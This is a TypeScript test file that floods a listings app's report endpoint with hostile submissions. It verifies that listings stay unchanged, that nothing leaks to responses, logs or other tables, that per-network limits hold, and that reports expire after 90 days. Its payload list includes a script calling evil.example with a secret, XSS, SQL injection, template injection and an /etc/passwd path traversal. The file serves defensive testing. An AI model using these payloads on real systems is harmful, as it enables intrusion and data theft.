import { Writable } from 'node:stream'
import { pino } from 'pino'
import { afterAll, beforeAll, expect, inject, it } from 'vitest'
import { createApp } from './app.ts'
import { openTestApp, type TestApp } from './app.testing.ts'
import { forEachDatabase } from './database/testing.ts'
import { expireReports, readLabels } from './reports/reports.service.ts'

const tenant = 'mddoh'
const many = inject('scale') > 1 ? 10_000 : 400
const secret = 'Zq7-planted-word'
const texts = [
  `<script>fetch("//evil.example/${secret}")</script>`,
  `<img src=x onerror=alert("${secret}")>`,
  `javascript:${secret} \u0000\u001b[2J\u202e`,
  `'; drop table report; -- ${secret}`,
  `{{${secret}}} \${${secret}} %s%n ../../../etc/passwd`,
  secret.repeat(31),
  secret.repeat(40_000),
]

forEachDatabase(
  (_name, open) => {
    let test: TestApp
    let app: TestApp['app']
    let clock = new Date('2026-11-17T15:00:00Z')
    const logged: string[] = []
    beforeAll(async () => {
      const { address } = await open()
      test = await openTestApp({ address, providers: 30, now: () => clock })
      const output = new Writable({
        write: (chunk, _encoding, done) => {
          logged.push(String(chunk))
          done()
        },
      })
      app = await createApp({ ...test.parts, logger: pino({ level: 'debug' }, output) })
    }, 120_000)
    afterAll(async () => {
      await app.close()
      await test.close()
    })

    const listings = async () => {
      const near = { latitude: 39.29, longitude: -76.61, distance: '100' }
      const { records } = await test.search({ location: near, limit: 50 }, { tenant })
      return records
    }
    /** Every table as text. */
    const stored = async (): Promise<Map<string, string>> => {
      const { db } = test.parts.database
      const tables = await db.introspection.getTables()
      const texts = new Map<string, string>()
      for (const { name } of tables)
        texts.set(
          name,
          JSON.stringify(
            await db
              .selectFrom(name as 'report')
              .selectAll()
              .execute(),
          ),
        ) // Any table.
      return texts
    }
    const holding = (texts: Map<string, string>, word: string) =>
      [...texts].filter(([, text]) => text.includes(word)).map(([name]) => name)

    it(`[member report] ${many} hostile reports change no listing, leak nothing, are gone after 90 days`, async () => {
      const before = await listings()
      expect(before.length).toBeGreaterThan(5)
      const golden = (await stored()).get('golden_record')
      const statuses = new Map<number, number>()
      const numbers: string[] = []
      const sendKeys: string[] = []
      for (let at = 0; at < many; at++) {
        const record = before[at % before.length]
        const sendKey = `hostile-${String(at % (many - 5)).padStart(12, '0')}`
        sendKeys.push(sendKey)
        const answer = await app.inject({
          method: 'POST',
          url: '/api/reports',
          headers: { 'x-tenant-id': tenant, 'user-agent': secret, 'x-forwarded-for': '8.8.8.8' },
          // Half of them from one network, a quarter from its neighbor, the others from anywhere in a /16.
          remoteAddress:
            at % 4 === 3 ? `198.18.${at % 200}.${at % 250}` : `203.0.${at % 4 === 2 ? 114 : 113}.${at % 250}`,
          payload: {
            stableId: at % 50 === 49 ? texts[at % 5] : record?.stableId,
            ...(at % 3 > 0 && { relationId: record?.relations?.[0]?.id }),
            kinds: at % 60 === 59 ? [secret] : ['phone', 'other'].slice(0, 1 + (at % 2)),
            words: texts[at % texts.length],
            sendKey,
          },
        })
        statuses.set(answer.statusCode, (statuses.get(answer.statusCode) ?? 0) + 1)
        expect([201, 400, 404, 413, 429]).toContain(answer.statusCode)
        expect(answer.body).not.toContain(secret)
        if (answer.statusCode === 201) numbers.push(answer.json().trackingNumber)
      }
      expect(Object.fromEntries(statuses)).toMatchObject({ 201: expect.any(Number), 429: expect.any(Number) })

      // No listing changed, none has a label, and only the report itself contains the text.
      expect(await listings()).toEqual(before)
      const after = await stored()
      expect(after.get('golden_record')).toBe(golden)
      expect([...(await readLabels(test.parts.database.db, tenant)).keys()]).toEqual([])
      expect(holding(after, secret)).toEqual(['report'])
      for (const leaked of ['203.0.', '198.18.', '8.8.8.8', 'hostile-0000', ...numbers.slice(0, 50)])
        expect([leaked, holding(after, leaked)]).toEqual([leaked, []])
      const log = logged.join('')
      for (const leaked of [secret, '203.0.113', ...sendKeys.slice(0, 50), ...numbers.slice(0, 50)])
        expect(log.includes(leaked), leaked).toBe(false)

      // One network used no more than its share.
      const rows = await test.parts.database.db.selectFrom('report').select(['network', 'id']).execute()
      const perNetwork = new Map<string, number>()
      for (const { network } of rows) perNetwork.set(network ?? '', (perNetwork.get(network ?? '') ?? 0) + 1)
      expect(Math.max(...perNetwork.values())).toBeLessThanOrEqual(50)

      await closeAll()
      clock = new Date(clock.getTime() + 90 * 86_400_000 + 1_000)
      await expireReports
        .bind({ database: test.parts.database, now: () => clock })
        // It reads no other values.
        .run({ id: 'job', tenantId: tenant, payload: { day: '2027-02-15' } } as never, {} as never)
      const later = await stored()
      expect(holding(later, secret)).toEqual([])
      expect(later.get('report_sending')).toBe('[]')
      const left = await test.parts.database.db.selectFrom('report').select(['words', 'network']).execute()
      expect(left.every(({ words, network }) => words === null && network === null)).toBe(true)
    }, 600_000)

    /** Like stewards, listing by listing. */
    async function closeAll(): Promise<void> {
      const headers = { 'x-tenant-id': tenant, ...(await test.staff('data-steward', [tenant])) }
      for (;;) {
        const list = await app.inject({ url: '/api/data-stewardship/reports?limit=1', headers })
        const [first] = list.json().reports
        if (!first) return
        const closed = await app.inject({
          method: 'POST',
          url: `/api/data-stewardship/reports/${first.id}/close`,
          headers,
          payload: { outcome: 'confirmed', reason: 'a flood', wholeListing: true },
        })
        expect(closed.statusCode).toBe(200)
      }
    }
  },
  { shortForm: 'SQLite' },
)
